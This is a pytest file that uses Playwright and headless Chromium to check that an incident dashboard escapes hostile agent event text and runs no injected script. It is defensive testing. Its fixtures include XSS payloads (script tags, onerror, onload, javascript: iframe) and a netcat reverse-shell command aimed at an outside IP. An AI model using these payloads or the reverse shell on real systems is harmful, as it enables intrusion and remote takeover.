"""The dashboard in headless Chromium: hostile agent text renders as text and no script runs.

Needs Debian's chromium (`apt-get install -y chromium`) and pip `playwright` (the browser is not
downloaded: Playwright drives /usr/bin/chromium). Skips with the reason when either is missing.
"""
from __future__ import annotations

import os
import shutil
import time
from pathlib import Path

import pytest

from vigiles.service.config import ServiceConfig

from .conftest import SCENARIO
from .server import ThreadServer, make_token

CHROMIUM = os.environ.get("VIGILES_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
         "--disable-sync", "--no-first-run"]
SCREENSHOT = Path(__file__).resolve().parents[2] / "docs" / "img" / "incident.png"
PAYLOAD = ('<script>window.__xss=1</script><img src=x onerror="window.__xss=2;alert(2)">'
           '<svg onload="window.__xss=3"></svg>"><iframe src="javascript:alert(4)"></iframe>')


@pytest.fixture
def browser():
    if not CHROMIUM:
        pytest.skip("no chromium binary (CI: apt-get install -y chromium)")
    playwright_api = pytest.importorskip("playwright.sync_api", reason="pip install playwright (no browser download needed)")
    with playwright_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS, headless=True)
        yield b
        b.close()


def _wait_incidents(service, n):
    for _ in range(100):
        if len(service.read_call(service.read.incidents)) >= n:
            return
        time.sleep(0.05)


def test_incident_page_escapes_hostile_text_and_runs_no_script(browser, tmp_path):
    db = tmp_path / "v.db"
    viewer = make_token(db, "oncall", "viewer")
    hostile = {"kind": "action", "id": "ev-xss", "ts": 1764560000, "host": "rl-node-0417", "sandbox": "sbx-evil",
               "run": PAYLOAD, "episode": "ep-1", "step": 3, "tool": "bash",
               "input": f"nc -e /bin/sh 185.220.101.47 4444 # {PAYLOAD}"}
    jobs = [{"kind": "job", "id": "grpo-train-0417", "ts": 1764547200, "host": "rl-node-0417", "gpus": [0, 1], "pids": [1200]},
            {"kind": "process", "ts": 1764547201, "host": "rl-node-0417", "pid": 1200, "ppid": 1, "argv": ["python", "train.py"]}]
    jobs += [{"kind": "gpu", "ts": 1764547260 + 60 * i, "host": "rl-node-0417", "gpu": i % 2, "pid": 1200, "util": 90}
             for i in range(8)]
    with ThreadServer(ServiceConfig(db=db)) as server:
        events = SCENARIO + [hostile] + jobs
        from vigiles.events import from_dict
        server.service.store_events([from_dict(e) for e in events], wait=True)
        _wait_incidents(server.service, 2)
        incidents = server.service.read_call(server.service.read.incidents)
        evil = next(i for i in incidents if i["sandbox"] == "sbx-evil")
        real = next(i for i in incidents if i["sandbox"] == "sbx-7f3a9c")

        context = browser.new_context(viewport={"width": 1360, "height": 900})
        page = context.new_page()
        dialogs, violations = [], []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
        page.goto(server.url + "/ui/incidents")
        assert page.url.endswith("/ui/login")
        page.fill("#token", viewer)
        page.click("button[type=submit]")
        page.wait_for_url("**/ui/incidents")
        assert "sbx-7f3a9c" in page.inner_text("main")

        # Filters work from the page.
        page.select_option("#severity", "critical")
        page.click("form.filters button")
        page.wait_for_url("**severity=critical**")
        assert page.locator("table.list tbody tr").count() >= 1

        page.goto(server.url + f"/ui/incidents/{evil['id']}")
        text = page.inner_text("main")
        assert "<script>window.__xss=1</script>" in text  # shown as text
        assert page.evaluate("typeof window.__xss") == "undefined"
        assert page.locator("main script, main iframe, main img[onerror], main svg[onload]").count() == 0
        time.sleep(0.3)
        assert dialogs == []
        assert page.evaluate("typeof window.__xss") == "undefined"

        page.goto(server.url + f"/ui/incidents/{real['id']}")
        labels = page.locator("ol.chain li").all_inner_texts()
        assert [label.split()[0] for label in labels] == ["action", "process", "connection", "GPU"]
        kinds = page.locator("ol.timeline .kind").all_inner_texts()
        assert kinds[:3] == ["ACTION", "PROCESS", "CONNECTION"] or kinds[:3] == ["action", "process", "connection"]
        assert "no ledger configured" in page.inner_text("#ledger")
        SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(SCREENSHOT), full_page=True)

        page.goto(server.url + "/ui/compute")
        assert page.locator("svg.chart rect").count() >= 2
        assert "grpo-train-0417" in page.inner_text("main")
        assert dialogs == []
        context.close()
